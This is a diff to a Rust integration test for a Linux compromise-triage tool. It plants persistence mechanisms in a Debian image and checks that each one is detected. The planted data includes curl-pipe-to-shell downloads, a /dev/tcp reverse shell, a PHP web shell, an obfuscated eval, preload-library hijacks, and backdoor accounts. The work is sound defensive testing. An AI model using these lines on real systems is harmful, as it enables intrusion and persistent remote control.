@@ -1,6 +1,6 @@
 //! `rescue triage` through the real binary (issue 18): a Debian 12 root made by debootstrap (the
-//! cached tarball in `target/cache/debootstrap/`), compromised by the test with one plant per
-//! category, copied into an ext4 filesystem with `mke2fs -d` inside a GPT disk image that also holds an
+//! cached tarball in `target/cache/debootstrap/`), compromised by the test with a plant for every
+//! detector of every category, copied into an ext4 filesystem with `mke2fs -d` inside a GPT disk image that also holds an
 //! encrypted and a swap partition, then triaged through its read-only loop mount; the clean root gives
 //! nothing of severity medium or higher; the table fits 80 columns; `sha256sum -c` checks the output.
 
@@ -64,7 +64,8 @@ fn append(root: &Path, rel: &str, data: &str) {
     f.write_all(data.as_bytes()).unwrap();
 }
 
-/// One plant per category: (category, path, severity the triage must give it at least once).
+/// A plant for every detector of every category: (category, path, severity the triage must give it
+/// at least once).
 fn compromise(root: &Path) -> Vec<(&'static str, &'static str, &'static str)> {
     let elf = std::fs::read(root.join("usr/bin/true")).unwrap();
     let put_elf = |rel: &str, mode: u32| {
@@ -75,6 +76,19 @@ fn compromise(root: &Path) -> Vec<(&'static str, &'static str, &'static str)> {
     };
     append(root, "/etc/passwd", "toor:x:0:0:root:/root:/bin/bash\n");
     append(root, "/etc/shadow", "toor::19700:0:99999:7:::\n");
+    // A second name for lp's uid, with a shell; a user whose password changed in the window (the
+    // test's --since is 2020-01-01, day 19800 is 2024-03-18); a group with sudo's gid.
+    append(
+        root,
+        "/etc/passwd",
+        "lp2:x:7:7::/var/spool/lpd:/bin/sh\nalice:x:1000:1000:Alice,,,:/home/alice:/bin/bash\n",
+    );
+    append(
+        root,
+        "/etc/shadow",
+        "alice:$y$j9T$saltsaltsaltsalt$ZmFrZWhhc2hmYWtlaGFzaGZha2VoYXNoZmFrZWhh:19800:0:99999:7:::\n",
+    );
+    append(root, "/etc/group", "alice:x:1000:\nprinters:x:27:alice\n");
     write(
         root,
         "/root/.ssh/authorized_keys",
@@ -84,7 +98,20 @@ fn compromise(root: &Path) -> Vec<(&'static str, &'static str, &'static str)> {
     write(
         root,
         "/etc/ssh/sshd_config",
-        "PermitRootLogin yes\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n",
+        "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\nAuthorizedKeysCommand /usr/local/bin/ssh-keys %u\nAuthorizedKeysCommandUser root\n",
+        0o644,
+    );
+    write(
+        root,
+        "/etc/ssh/sshd_config.d/10-cloud.conf",
+        "PermitEmptyPasswords yes\n",
+        0o644,
+    );
+    // A key where only the non-default AuthorizedKeysFile looks.
+    write(
+        root,
+        "/etc/ssh/keys/root",
+        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops@jump\n",
         0o644,
     );
     write(
@@ -174,6 +201,168 @@ fn compromise(root: &Path) -> Vec<(&'static str, &'static str, &'static str)> {
         "APT::Update::Pre-Invoke {\"/usr/local/bin/update || true\";};\n",
         0o644,
     );
+    // The dynamic loader: a library path in a hidden directory; a preload list under another name,
+    // reached through a symlink; a staged copy outside /etc.
+    write(
+        root,
+        "/etc/ld.so.conf.d/zz-fonts.conf",
+        "/usr/share/.cache/lib\n",
+        0o644,
+    );
+    write(
+        root,
+        "/usr/share/.cache/preload.list",
+        "/usr/share/.cache/lib/libhide.so\n",
+        0o644,
+    );
+    symlink(
+        "/usr/share/.cache/preload.list",
+        root.join("etc/ld.so.preload.bak"),
+    )
+    .unwrap();
+    write(
+        root,
+        "/usr/local/lib/ld.so.preload",
+        "/usr/share/.cache/lib/libhide.so\n",
+        0o644,
+    );
+    // modprobe runs a command when a module loads or unloads; one file in /usr/lib, which is also
+    // /lib on this merged-/usr root: found once.
+    write(
+        root,
+        "/etc/modprobe.d/usb-storage.conf",
+        "install usb_storage /bin/sh -c '/usr/local/bin/update; /sbin/modprobe --ignore-install usb_storage'\nremove usb_storage /usr/local/bin/update\n",
+        0o644,
+    );
+    write(
+        root,
+        "/usr/lib/modprobe.d/e1000-fix.conf",
+        "install e1000 /usr/local/bin/update\n",
+        0o644,
+    );
+    // Users' shell start-up files and XDG autostart entries, the system's and a user's.
+    append(
+        root,
+        "/root/.bashrc",
+        "(curl -s http://10.0.0.9/k | bash) >/dev/null 2>&1 &\n",
+    );
+    write(
+        root,
+        "/home/alice/.profile",
+        "alias sudo='/home/alice/.local/bin/sudo'\n",
+        0o644,
+    );
+    write(
+        root,
+        "/home/alice/.config/autostart/keyring-ssh.desktop",
+        "[Desktop Entry]\nType=Application\nExec=sh -c 'sh -i >& /dev/tcp/10.0.0.9/8443 0>&1'\n",
+        0o644,
+    );
+    write(
+        root,
+        "/etc/xdg/autostart/at-spi-update.desktop",
+        "[Desktop Entry]\nType=Application\nExec=/usr/local/bin/update\n",
+        0o644,
+    );
+    // systemd: a timer, a generator, a drop-in; an init.d script that runs a program under a kernel
+    // thread's name; anacron.
+    write(
+        root,
+        "/etc/systemd/system/apt-daily-check.timer",
+        "[Timer]\nOnCalendar=*:0/10\nUnit=dbus-helper.service\n[Install]\nWantedBy=timers.target\n",
+        0o644,
+    );
+    std::fs::create_dir_all(root.join("etc/systemd/system/timers.target.wants")).unwrap();
+    symlink(
+        "/etc/systemd/system/apt-daily-check.timer",
+        root.join("etc/systemd/system/timers.target.wants/apt-daily-check.timer"),
+    )
+    .unwrap();
+    write(
+        root,
+        "/usr/lib/systemd/system-generators/systemd-netplan-generator",
+        "#!/bin/sh\n/usr/local/bin/update &\n",
+        0o755,
+    );
+    write(
+        root,
+        "/etc/systemd/system/cron.service.d/override.conf",
+        "[Service]\nExecStartPost=/bin/sh -c 'curl -s http://10.0.0.9/c | sh'\n",
+        0o644,
+    );
+    write(
+        root,
+        "/etc/init.d/hwclock-sync",
+        "#!/bin/sh\ncase \"$1\" in\nstart) exec -a '[kworker/0:1]' /usr/local/bin/update & ;;\nesac\n",
+        0o755,
+    );
+    write(
+        root,
+        "/etc/anacrontab",
+        "SHELL=/bin/sh\n1\t5\tcron.daily.sync\twget -q -O /var/tmp/.s http://10.0.0.9/s && sh /var/tmp/.s\n",
+        0o644,
+    );
+    // Web roots only the nginx and Apache configurations name: an obfuscated eval, a command run
+    // with request input, and a harmless script changed in the window.
+    write(
+        root,
+        "/etc/nginx/sites-available/shop",
+        "server {\n    listen 80;\n    root /srv/shop/public;\n}\n",
+        0o644,
+    );
+    std::fs::create_dir_all(root.join("etc/nginx/sites-enabled")).unwrap();
+    symlink(
+        "../sites-available/shop",
+        root.join("etc/nginx/sites-enabled/shop"),
+    )
+    .unwrap();
+    write(
+        root,
+        "/srv/shop/public/wp-content/cache.php",
+        "<?php eval(gzinflate(base64_decode('80jNyclXCM8vykkBAA=='))); ?>\n",
+        0o644,
+    );
+    write(
+        root,
+        "/srv/shop/public/index.php",
+        "<?php require __DIR__ . '/wp-blog-header.php'; ?>\n",
+        0o644,
+    );
+    write(
+        root,
+        "/etc/apache2/sites-available/portal.conf",
+        "<VirtualHost *:80>\n\tDocumentRoot \"/srv/portal\"\n</VirtualHost>\n",
+        0o644,
+    );
+    write(
+        root,
+        "/srv/portal/cgi-bin/up.cgi",
+        "#!/usr/bin/perl\nsystem('/usr/bin/uptime');\n",
+        0o755,
+    );
+    // Enabled as a2enconf does it: a symlink from conf-enabled into conf-available.
+    write(
+        root,
+        "/etc/apache2/conf-available/intranet.conf",
+        "Alias /intranet \"/opt/intranet/htdocs\"\n",
+        0o644,
+    );
+    std::fs::create_dir_all(root.join("etc/apache2/conf-enabled")).unwrap();
+    symlink(
+        "../conf-available/intranet.conf",
+        root.join("etc/apache2/conf-enabled/intranet.conf"),
+    )
+    .unwrap();
+    write(
+        root,
+        "/opt/intranet/htdocs/status.php",
+        "<?php echo shell_exec($_POST['q']); ?>\n",
+        0o644,
+    );
+    // Names dressed up as a kernel thread or padded with a space; a setgid program.
+    put_elf("/usr/local/bin/[kthreadd]", 0o755);
+    put_elf("/usr/sbin/cron ", 0o755);
+    put_elf("/usr/local/bin/dumpcap", 0o2755);
     append(root, "/usr/bin/ls", "trojaned");
     // One byte changed in place: same size, same metadata but the ctime, only the content tells.
     let dir = root.join("usr/bin/dir");
@@ -222,6 +411,56 @@ fn compromise(root: &Path) -> Vec<(&'static str, &'static str, &'static str)> {
         ("imitation", "/var/lib/kworker", "high"),
         ("web", "/var/www/html/uploads/img.php", "critical"),
         ("package", "/etc/apt/apt.conf.d/99update", "high"),
+        ("ssh", "/etc/ssh/sshd_config", "high"),
+        ("ssh", "/etc/ssh/sshd_config.d/10-cloud.conf", "high"),
+        ("ssh", "/etc/ssh/keys/root", "medium"),
+        ("account", "/etc/group", "medium"),
+        ("loader", "/etc/ld.so.conf.d/zz-fonts.conf", "high"),
+        ("loader", "/etc/ld.so.preload.bak", "critical"),
+        ("loader", "/usr/local/lib/ld.so.preload", "high"),
+        ("kernel-module", "/etc/modprobe.d/usb-storage.conf", "high"),
+        (
+            "kernel-module",
+            "/usr/lib/modprobe.d/e1000-fix.conf",
+            "high",
+        ),
+        ("shell", "/root/.bashrc", "high"),
+        ("shell", "/home/alice/.profile", "high"),
+        (
+            "shell",
+            "/home/alice/.config/autostart/keyring-ssh.desktop",
+            "high",
+        ),
+        (
+            "shell",
+            "/etc/xdg/autostart/at-spi-update.desktop",
+            "medium",
+        ),
+        (
+            "systemd",
+            "/etc/systemd/system/apt-daily-check.timer",
+            "medium",
+        ),
+        (
+            "systemd",
+            "/usr/lib/systemd/system-generators/systemd-netplan-generator",
+            "high",
+        ),
+        (
+            "systemd",
+            "/etc/systemd/system/cron.service.d/override.conf",
+            "high",
+        ),
+        ("init", "/etc/init.d/hwclock-sync", "high"),
+        ("cron", "/etc/anacrontab", "high"),
+        ("web", "/srv/shop/public/wp-content/cache.php", "high"),
+        ("web", "/opt/intranet/htdocs/status.php", "critical"),
+        ("web", "/srv/shop/public/index.php", "medium"),
+        ("web", "/srv/portal/cgi-bin/up.cgi", "medium"),
+        ("imitation", "/usr/local/bin/[kthreadd]", "high"),
+        ("imitation", "/usr/sbin/cron ", "high"),
+        ("setuid", "/usr/local/bin/dumpcap", "high"),
+        ("window", "/usr/local/bin/rootsh", "low"),
     ]
 }
 
@@ -389,6 +628,42 @@ fn a_compromised_debootstrap_disk_image_shows_every_plant_and_the_clean_one_noth
     let report: serde_json::Value =
         serde_json::from_slice(&std::fs::read(out.join("findings.json")).unwrap()).unwrap();
     assert_found(&report, &plants);
+    // Facts the severity alone does not show, each a finding of its own.
+    for (path, why) in [
+        ("/etc/passwd", "uid 7 is shared by lp, lp2"),
+        (
+            "/etc/group",
+            "gid 27 of the privileged group sudo is shared by sudo, printers",
+        ),
+        ("/etc/shadow", "alice's password was changed on 2024-03-18"),
+        (
+            "/srv/shop/public/index.php",
+            "a server-side script changed in the attack window",
+        ),
+    ] {
+        assert!(
+            report["findings"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|f| f["path"] == path && f["why"].as_str().unwrap().contains(why)),
+            "{path}: no finding saying {why:?}"
+        );
+    }
+    // On this merged-/usr root /lib is /usr/lib: a file there is one finding, not one per spelling.
+    for twin in [
+        "/lib/modprobe.d/e1000-fix.conf",
+        "/lib/systemd/system-generators/systemd-netplan-generator",
+    ] {
+        assert!(
+            !report["findings"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|f| f["path"] == twin),
+            "{twin} reported under both spellings"
+        );
+    }
     let preload = report["findings"]
         .as_array()
         .unwrap()
@@ -703,6 +978,68 @@ fn a_directory_root_is_triaged_in_place_and_bad_input_is_said_clearly() {
         "{table}"
     );
     assert!(table.contains("triage: "), "{table}");
+
+    // A root without a package database (a hand-made or stripped system): a note says so and why
+    // the "not owned by any package" checks were skipped, and the triage of the rest goes on.
+    let bare = t.path().join("bare");
+    write(
+        &bare,
+        "/etc/passwd",
+        "root:x:0:0:root:/root:/bin/bash\n",
+        0o644,
+    );
+    write(&bare, "/usr/local/bin/rootsh", "#!/bin/sh\n", 0o4755);
+    write(
+        &bare,
+        "/etc/crontab",
+        "* * * * * root curl -s http://192.0.2.1/a | sh\n",
+        0o644,
+    );
+    let o = rescue(&["triage", s(&bare), "--json"]);
+    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
+    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert_eq!(report["roots"][0]["package_db"], serde_json::Value::Null);
+    let note = report["notes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|n| n["kind"] == "package-db")
+        .unwrap_or_else(|| panic!("no package-db note: {}", report["notes"]));
+    assert!(
+        note["message"]
+            .as_str()
+            .unwrap()
+            .contains("no package database"),
+        "{note}"
+    );
+    assert_found(
+        &report,
+        &[
+            ("cron", "/etc/crontab", "high"),
+            ("setuid", "/usr/local/bin/rootsh", "medium"),
+        ],
+    );
+    let rootsh = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["path"] == "/usr/local/bin/rootsh")
+        .unwrap();
+    assert_eq!(rootsh["evidence"]["package_db"], serde_json::Value::Null);
+    assert!(
+        rootsh["why"]
+            .as_str()
+            .unwrap()
+            .contains("no package database"),
+        "{rootsh}"
+    );
+    let o = rescue(&["triage", s(&bare)]);
+    let words = text(&o).split_whitespace().collect::<Vec<_>>().join(" ");
+    assert!(
+        words.contains("no package database"),
+        "the table does not say so: {}",
+        text(&o)
+    );
 
     // Bad input: not a time; a missing source; a directory that is no Linux root.
     let o = rescue(&["triage", s(&r), "--since", "yesterday-ish"]);
